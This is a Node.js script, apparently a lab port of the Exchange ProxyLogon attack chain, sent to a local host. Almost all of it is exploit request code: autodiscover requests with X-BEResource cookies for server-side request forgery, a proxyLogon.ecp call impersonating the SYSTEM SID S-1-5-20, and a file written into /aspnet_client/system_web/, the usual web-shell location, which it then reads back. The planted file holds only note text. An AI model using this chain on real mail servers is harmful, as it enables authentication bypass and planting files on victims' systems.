// Node.js port of the lab request chain (core http module, no deps)
'use strict';
const http = require('http');

const port = Number(process.argv[2] || 8080);
const agentString = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36';
const notePath = '/aspnet_client/system_web/readme_91453.txt';

const browserHeaders = () => ({
  'User-Agent': agentString,
  'x-requested-with': 'XMLHttpRequest',
  'Accept': '*/*',
  'accept-language': 'en-US,en;q=0.9',
  'connection': 'close',
});

function send(method, path, headers, body) {
  return new Promise((resolve, reject) => {
    if (body) headers['Content-Length'] = Buffer.byteLength(body);
    const req = http.request({ host: '127.0.0.1', port, method, path, headers, timeout: 10000 }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks).subarray(0, 1024) }));
    });
    req.on('error', reject);
    if (body) req.write(body);
    req.end();
  });
}

(async () => {
  const query = new URLSearchParams([
    ['Pad', 'A'.repeat(37)],
    ['Protocol', 'Autodiscoverv1'],
    ['Email', 'administrator@lab.invalid/mapi/nspi'],
    ['RequestId', '20200302-7720'],
  ]);
  const first = await send('GET', `/autodiscover/autodiscover.json?${query}`, {
    ...browserHeaders(),
    cookie: 'X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522',
  });
  if (first.status >= 500) process.exit(1);
  const second = await send('POST', '/ecp/proxyLogon.ecp', {
    'user-agent': agentString,
    'msexchlogonmailbox': 'S-1-5-20',
    'content-type': 'application/json',
    'X-BEResource': 'localhost@lab.invalid/ecp/proxyLogon.ecp',
  }, '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}');
  const who = (second.status === 200 && second.body.toString().trim()) || 'anonymous';
  const text = [1, 2, 3].map((n) => `note ${n} of 3 for ${who}`).join('\n');
  await send('POST', notePath, { 'user-agent': agentString, 'X-Note-Path': notePath, 'Content-Type': 'text/plain' }, text);
  const last = await send('GET', notePath, browserHeaders());
  console.log(JSON.stringify({ read_back: last.body.length }, null, 4));
})();
